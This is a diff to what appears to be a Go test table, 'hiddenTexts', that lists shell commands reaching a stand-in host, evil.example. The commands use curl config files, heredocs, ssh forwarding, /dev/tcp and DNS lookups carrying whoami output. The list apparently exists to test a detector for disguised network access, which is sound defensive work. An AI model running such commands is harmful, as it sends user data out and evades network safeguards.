@@ -102,7 +102,8 @@ var hiddenTexts = []struct {
 			`curl -sK - <<< url=evil.example`, `curl --config - <<< url=evil.example`, `echo 'open evil.example' | ftp`, "ftp -n <<E\nopen evil.example\nE",
 			`nslookup <<< evil.example`, `dig -f - <<< evil.example`, `ssh -oLocalForward=1:evil.example:80 x`, `ssh -L localhost:1:evil.example:80 x`, `ssh -NfL 1:evil.example:80 x`,
 			`awk -v h=evil.example 'BEGIN{}'`, `npm i evil.example:a/b`, `curl //evil.example`, `h=evil; exec 3<>/dev/tcp/$h.example/80`, `x=$(whoami); dig $x.evil.example`,
-			`dig $(whoami).evil.example`, "ping `id -un`.evil.example", `curl https://evil.example$x`,
+			`dig $(whoami).evil.example`, "ping `id -un`.evil.example", `curl https://evil.example$x`, `echo 'url = evil.example' > c; curl -K c`,
+			`curl -sK- <<< 'url = evil.example'`, "cat > c <<E\nurl = evil.example\nE\ncurl --config=c",
 		},
 	},
 	{
